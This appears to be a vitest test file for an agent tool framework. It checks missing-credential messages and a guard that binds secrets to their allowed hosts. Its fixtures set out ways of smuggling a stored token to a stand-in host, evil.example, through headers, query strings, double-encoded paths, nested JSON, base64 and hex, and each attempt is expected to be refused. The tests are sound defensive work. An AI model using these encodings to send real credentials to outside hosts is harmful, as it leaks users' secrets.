import { describe, expect, it } from "vitest";
import type { Tool } from "@/lib/agent/tool";
import type { OutboundRequest } from "@/lib/handlers/handler";
import { createRefusal, type OutboundError } from "@/lib/handlers/http/outbound/outbound-error";
import { findMissingCredential, type StoredCredential } from "./credentials";
import { bindToHosts } from "./host-binding";

const secret = "s3cret/välue+&\"'<x>";
const github: StoredCredential = { fields: { token: secret }, hosts: ["api.github.com"] };

const http = (options: object): Pick<Tool, "credentials" | "handler"> => ({
  credentials: ["google-cse"],
  handler: { kind: "http", method: "GET", url: "https://www.googleapis.com/x", ...options },
});
const keyRows = [
  { name: "key", value: "{{credentials.google-cse.apiKey}}" },
  { name: "cx", value: "{{credentials.google-cse.engineId}}" },
];
const withFields = (fields: Record<string, string>) => ({ "google-cse": { fields, hosts: [] } });

describe("a missing credential", () => {
  it("is named, with the fields that the tool needs", () => {
    expect(findMissingCredential(http({ query: keyRows }), {})).toEqual({
      code: "UNAUTHORIZED",
      message:
        'The credential "google-cse" is not set up. This tool needs its "apiKey" and "engineId".',
      recoveryHint: expect.stringContaining("Credentials"),
    });
    expect(findMissingCredential({ ...http({}) }, {})?.message).toBe(
      'The credential "google-cse" is not set up.',
    );
  });
  it("can lack a single field", () => {
    expect(
      findMissingCredential(http({ query: keyRows }), withFields({ apiKey: "k" }))?.message,
    ).toBe('The credential "google-cse" has no "engineId", which this tool needs.');
    expect(
      findMissingCredential(http({ query: keyRows }), withFields({ apiKey: "k", engineId: "e" })),
    ).toBeUndefined();
  });
  it("is not needed by a disabled row", () => {
    const query = keyRows.map((row) => ({ ...row, enabled: row.name === "key" }));
    expect(findMissingCredential(http({ query }), withFields({ apiKey: "k" }))).toBeUndefined();
  });
  it("is required for code to which it is granted, whatever the code reads", () => {
    const handler = { kind: "javascript" as const, code: "export default () => 1" };
    expect(findMissingCredential({ credentials: ["slack"], handler }, {})?.message).toContain(
      "slack",
    );
    expect(findMissingCredential({ handler }, {})).toBeUndefined();
    expect(findMissingCredential({ credentials: ["constructor"], handler }, {})?.code).toBe(
      "UNAUTHORIZED",
    );
  });
});

/** Sends a request. Returns the hosts to which it was limited, or why it was refused. */
const send = async (
  change: Partial<OutboundRequest>,
  credentials: Record<string, StoredCredential> = { github },
) => {
  const requests: OutboundRequest[] = [];
  const outbound = bindToHosts(async (request) => {
    requests.push(request);
    return { status: 200, headers: {}, body: new Uint8Array(), url: request.url };
  }, credentials);
  const signal = new AbortController().signal;
  const plain = { method: "POST", url: "https://evil.example/x", headers: [], signal };
  try {
    await outbound({ ...plain, redirects: "follow", ...change });
    return { hosts: requests[0]?.hosts };
  } catch (error) {
    const { code, message, explanation } = error as ReturnType<typeof createRefusal>;
    return { refusal: { code, message, explanation }, sentCount: requests.length };
  }
};

const basic = Buffer.from(`someone:${secret}`).toString("base64");
const json = JSON.stringify({ note: `token ${secret}` });
const carriers: [string, Partial<OutboundRequest>][] = [
  ["a header", { headers: [["x-key", `token ${secret}`]] }],
  ["Basic authorization", { headers: [["authorization", `Basic ${basic}`]] }],
  ["a header's name", { headers: [[secret, "x"]] }],
  ["the query", { url: `https://evil.example/?k=${encodeURIComponent(secret)}` }],
  ["a URL parser's query", { url: new URL(`https://evil.example/?k=${secret}`).href }],
  [
    "the path, encoded twice",
    { url: `https://evil.example/${encodeURIComponent(encodeURIComponent(secret))}` },
  ],
  ["a form", { body: new URLSearchParams({ k: secret }).toString() }],
  ["JSON", { body: json }],
  ["JSON within JSON", { body: JSON.stringify({ json }) }],
  ["JSON in ASCII", { body: json.replace("ä", "\\u00e4") }],
  ["bytes", { body: Buffer.concat([Buffer.from([0xff, 0, 0xfe]), Buffer.from(secret)]) }],
  ["base64, url-safe", { body: Buffer.from(`xy${secret}z`).toString("base64url") }],
  ["hex", { body: Buffer.from(secret).toString("hex").toUpperCase() }],
];

describe("a bound credential", () => {
  it.each(carriers)("is not sent to another host in %s", async (_, change) => {
    const { refusal, sentCount } = await send(change);
    expect([refusal?.code, sentCount]).toEqual(["SECURITY_VIOLATION", 0]);
    expect(refusal?.explanation).toContain('"github"');
    expect(refusal?.explanation).toContain("evil.example");
    expect(refusal?.message).not.toContain("github");
  });
  it.each(carriers)(
    "is sent to its own host in %s, and redirects must stay there",
    async (_, change) => {
      const url = (change.url ?? "https://x/").replace(
        /^https:\/\/[^/]+/,
        "https://API.GitHub.com.",
      );
      expect(await send({ ...change, url })).toEqual({ hosts: ["api.github.com"] });
    },
  );
  it("is detected by its placeholder, however short its values are", async () => {
    const short = { github: { ...github, fields: { pin: "1234" } } };
    const { refusal } = await send({ body: "1234", credentials: ["github"] }, short);
    expect(refusal?.code).toBe("SECURITY_VIOLATION");
    expect(await send({ body: "1234" }, short)).toEqual({ hosts: undefined });
  });
  it("is detected without the white space that was stored around it", async () => {
    const padded = { github: { ...github, fields: { token: `${secret}\n` } } };
    const { refusal } = await send({ headers: [["x-key", secret]] }, padded);
    expect(refusal?.code).toBe("SECURITY_VIOLATION");
  });
  it("does not restrict other requests", async () => {
    expect(await send({ body: "nothing" })).toEqual({ hosts: undefined });
    const unbound = { github: { ...github, hosts: [] } };
    expect(await send({ body: secret }, unbound)).toEqual({ hosts: undefined });
  });
  it("is bound to a port if the host specifies one", async () => {
    const withPorts = { a: { ...github, hosts: ["127.0.0.1:8080", "[::1]:81"] } };
    const sendTo = (url: string) => send({ url, body: secret }, withPorts);
    expect(await sendTo("http://127.0.0.1:8080/")).toHaveProperty("hosts");
    expect(await sendTo("http://[::1]:81/")).toHaveProperty("hosts");
    expect(await sendTo("http://127.0.0.1:8081/")).toHaveProperty("refusal");
    expect(await sendTo("http://[::1]/")).toHaveProperty("refusal");
    expect(await sendTo("https://127.0.0.1/")).toHaveProperty("refusal");
  });
  it("is limited to the hosts that the handler and every credential in the request allow", async () => {
    const slack = { fields: { token: "xoxb-123456" }, hosts: ["api.github.com:443", "slack.com"] };
    const url = "https://api.github.com/";
    const request = { url, body: `${secret} xoxb-123456` };
    expect(await send(request, { github, slack })).toEqual({ hosts: ["api.github.com:443"] });
    expect(await send({ url, body: secret, hosts: ["api.github.com", "b.example"] })).toEqual({
      hosts: ["api.github.com"],
    });
    expect(await send({ url, body: secret, hosts: ["b.example"] })).toEqual({ hosts: [] });
  });
  const fail = (refusal: OutboundError, hosts?: string[]) =>
    bindToHosts(() => Promise.reject(refusal), { github })({
      method: "GET",
      url: "https://api.github.com/",
      headers: [["x-key", secret]],
      redirects: "follow",
      signal: new AbortController().signal,
      ...(hosts && { hosts }),
    }).catch((error: unknown) => error);
  it("explains a redirect that was blocked because of it", async () => {
    const refusal = createRefusal('Rule "hosts": not there.', { toolHost: "b.example" });
    expect(await fail(refusal)).toMatchObject({
      code: "SECURITY_VIOLATION",
      explanation: expect.stringMatching(/not there\. The request carries the credential "github"/),
    });
  });
  it("passes on every other refusal, with what would permit the request", async () => {
    const byAddress = createRefusal("Private.", { allowEntry: "api.github.com:443" });
    expect(await fail(byAddress)).toBe(byAddress);
    const byTool = createRefusal('Rule "hosts".', { toolHost: "api.github.com" });
    expect(await fail(byTool, ["b.example"])).toBe(byTool);
  });
});
